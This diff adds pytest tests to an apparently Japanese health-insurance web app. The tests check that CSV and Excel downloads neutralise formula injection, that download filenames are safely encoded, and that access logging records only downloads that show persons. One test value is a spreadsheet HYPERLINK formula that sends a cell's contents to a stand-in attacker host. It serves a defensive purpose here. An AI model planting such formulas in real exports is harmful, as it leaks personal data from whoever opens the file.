@@ -9,10 +9,13 @@ import csv
 import datetime as dt
 import io
 import json
+import re
 from collections.abc import Iterator
 from pathlib import Path
+from urllib.parse import unquote
 
 import lxml.html
+import openpyxl
 import pytest
 import sqlalchemy as sa
 from fastapi.testclient import TestClient
@@ -21,6 +24,7 @@ from kokuho.boundary import Evidence, decide, judge, open_cases, record_loss
 from kokuho.config import Settings
 from kokuho.ids import with_check_digit
 from kokuho.registry import load_insurers
+from kokuho.registry import tables as r
 from kokuho.store import connect
 from kokuho.web import create_app
 from kokuho.web.dashboard import add_user
@@ -212,3 +216,73 @@ def test_a_case_at_step_one_has_no_notice(
         answer = client.get(f"/boundary/cases/{case_id}/notices/{kind}")
         assert answer.status_code == 404 and "作成できません" in answer.text
     assert not _records(engine, "boundary_notice")
+
+
+#: Synthetic names a spreadsheet would read as a formula (CSV / formula injection).
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"確認")', "+1+1", "-2+3", "@SUM(A1)",
+            "\t=1+1")  # fmt: skip
+
+
+@pytest.mark.parametrize("formula", FORMULAS, ids=["eq", "plus", "minus", "at", "tab"])
+def test_downloads_do_not_carry_formulas(
+    site: tuple[TestClient, sa.Engine, int], formula: str
+) -> None:
+    """A synthetic name starting with =, +, -, @ (or a tab) is text in the CSV (quoted with an
+    apostrophe, as spreadsheets show it) and a text cell in the workbook, never a formula."""
+    client, engine, case_id = site
+    with engine.begin() as connection:
+        connection.execute(sa.update(r.persons).values(name_kanji=formula))
+    assert sign_in(client, MUNICIPAL).status_code == 303
+    [row] = _csv(client, "/boundary", "boundary-cases")
+    assert row["氏名"] == "'" + formula
+    # Figures stay numbers: only text is quoted.
+    assert row["重複月の保険料"] == "1047300" and row["事案番号"] == str(case_id)
+    answer = client.get("/boundary?download=boundary-cases&format=xlsx")
+    assert answer.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
+    assert sheet is not None
+    header = [cell.value for cell in sheet[2]]
+    cell = sheet.cell(row=3, column=header.index("氏名") + 1)
+    assert (cell.value, cell.data_type) == (formula, "s")
+
+
+def test_a_download_names_its_file_in_japanese_with_every_byte_encoded(
+    site: tuple[TestClient, sa.Engine, int],
+) -> None:
+    """The file name is the table's caption (RFC 6266 filename*): a place name holding "/"
+    (a path separator, not an RFC 8187 attr-char) is percent-encoded like the kanji."""
+    client, engine, _ = site
+    with engine.begin() as connection:
+        connection.execute(
+            sa.update(r.insurers)
+            .where(r.insurers.c.insurer_number == KOKUHO)
+            .values(name="高松市/東 国民健康保険")
+        )
+    assert sign_in(client, MUNICIPAL).status_code == 303
+    answer = client.get("/boundary?download=boundary-cases&format=csv")
+    assert answer.status_code == 200
+    plain, extended = answer.headers["content-disposition"].split("; filename*=UTF-8''")
+    assert plain == 'attachment; filename="boundary-cases.csv"'
+    assert re.fullmatch(r"[A-Za-z0-9%._~-]+", extended), extended
+    assert unquote(extended) == "高松市/東  二重払い事案の一覧.csv"
+
+
+def test_only_a_download_of_persons_is_recorded_as_one(
+    site: tuple[TestClient, sa.Engine, int],
+) -> None:
+    """The counts' download shows no person and a table the page does not have is a 404: no
+    record says P's case was downloaded (a person's access history must not read so)."""
+    client, engine, case_id = site
+    assert sign_in(client, MUNICIPAL).status_code == 303
+    assert _csv(client, "/boundary", "boundary-counts")[0]["団体コード"] == "372013"
+    assert client.get("/boundary?download=no-such-table").status_code == 404
+    assert client.get(f"/boundary/cases/{case_id}?download=no-such-table").status_code == 404
+    assert not _records(engine, "boundary_list") and not _records(engine, "boundary_case")
+    _csv(client, f"/boundary/cases/{case_id}", "case-years")
+    _csv(client, "/boundary", "boundary-cases")
+    assert [(a, o) for a, o, _ in _records(engine, "boundary_case")] == [
+        (f"dashboard:{MUNICIPAL}", "downloaded:csv")
+    ]
+    assert [(a, o) for a, o, _ in _records(engine, "boundary_list")] == [
+        (f"dashboard:{MUNICIPAL}", "downloaded:csv")
+    ]
